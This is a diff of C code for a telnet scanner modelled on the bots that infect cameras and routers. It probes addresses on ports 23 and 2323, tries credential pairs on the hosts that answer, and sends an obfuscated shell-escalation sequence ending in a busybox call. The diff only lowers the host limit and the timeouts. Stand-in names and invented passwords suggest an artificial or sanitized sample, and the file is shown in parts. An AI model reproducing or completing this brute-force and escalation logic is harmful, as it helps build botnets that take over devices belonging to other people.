@@ -1,5 +1,5 @@
 // hidden
-// Knocks on 240 addresses for telnet and tries invented passwords on the first eight that answer, as the bots of cameras and routers do.
+// Knocks on 240 addresses for telnet and tries invented passwords on the first five that answer, as the bots of cameras and routers do.
 #include "standin.h"
 static const char *pairs(int i) {
     switch (i) {
@@ -17,10 +17,10 @@ static void speak(uint32_t address, int port) {
         snprintf(user, sizeof user, "%s", pairs(i));
         char *word = strchr(user, ':');
         *word++ = 0;
-        hear(fd, line, sizeof line, 1000);
-        tell(fd, "%s\r\n", user), hear(fd, line, sizeof line, 1000);
-        tell(fd, "%s\r\n", word), hear(fd, line, sizeof line, 1000);
-        tell(fd, "%s", (char *)HIDE("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox STANDIN\r\n")), hear(fd, line, sizeof line, 1000);
+        hear(fd, line, sizeof line, 300);
+        tell(fd, "%s\r\n", user), hear(fd, line, sizeof line, 300);
+        tell(fd, "%s\r\n", word), hear(fd, line, sizeof line, 300);
+        tell(fd, "%s", (char *)HIDE("enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox STANDIN\r\n")), hear(fd, line, sizeof line, 300);
         close(fd);
     }
 }
@@ -44,7 +44,7 @@ int main(void) {
             socklen_t size = sizeof error;
             if (calls[i].revents & POLLOUT) getsockopt(calls[i].fd, SOL_SOCKET, SO_ERROR, &error, &size);
             close(calls[i].fd);
-            if (error == 0 && open < 8) open++, speak(address[i], (group * 20 + i) % 10 ? 23 : 2323);
+            if (error == 0 && open < 5) open++, speak(address[i], (group * 20 + i) % 10 ? 23 : 2323);
         }
     }
     return 0;
